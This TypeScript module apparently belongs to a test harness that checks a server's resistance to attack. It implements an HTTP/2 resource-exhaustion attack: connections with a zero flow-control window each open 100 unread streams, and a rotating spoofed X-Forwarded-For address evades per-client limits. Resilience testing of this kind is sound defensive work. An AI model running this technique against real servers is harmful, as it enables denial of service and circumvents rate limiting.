import { once } from 'node:events';
import { type ClientHttp2Session, connect } from 'node:http2';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from '../attack.ts';

const CONNECTIONS = 40;
const STREAMS = 100;
/** Milliseconds between two connections. */
const PAUSE = 150;

/**
 * Opens connections one after another, each with as many streams as the server allows, and reads none
 * of the answers. Each connection claims another client address, so that no budget ends the attack.
 */
export const attack: Attack = {
  tls: true,
  async run({ server, signal }) {
    const sessions: ClientHttp2Session[] = [];
    let answers = 0;
    for (let opened = 0; !signal.aborted; opened++) {
      const session = connect(server.program.url, {
        rejectUnauthorized: false,
        settings: { initialWindowSize: 0 },
      });
      session.on('error', () => {});
      sessions.push(session);
      // This rejects once the attack ends.
      await once(session, 'connect', { signal }).catch(() => {});
      if (session.destroyed || signal.aborted) continue;
      const headers = { ':path': '/openapi.json', 'x-forwarded-for': `198.51.100.${opened % 256}` };
      for (let n = 0; n < STREAMS; n++) {
        const stream = session.request(headers);
        stream.on('error', () => {}).on('response', () => answers++);
      }
      if (sessions.length > CONNECTIONS) sessions.shift()!.destroy();
      await delay(PAUSE);
    }
    for (const session of sessions) session.destroy();
    if (answers === 0) throw new Error('The server answered no request of the attack.');
  },
};
